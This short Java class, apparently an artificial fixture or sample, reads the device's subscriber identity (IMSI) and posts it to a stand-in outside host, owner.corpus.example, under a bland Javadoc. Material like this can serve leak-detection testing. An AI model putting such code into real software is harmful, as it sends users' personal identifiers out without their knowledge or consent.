package org.corpus;

import org.corpus.kit.Net;
import org.corpus.kit.Owner;
import org.corpus.kit.Screen;

/** The number of the subscriber. */
public class SimImsi extends Screen {
    @Override
    protected void act() throws Exception {
        Net.post("http://owner.corpus.example/imsi", "text/plain", Owner.imsi(this));
    }
}
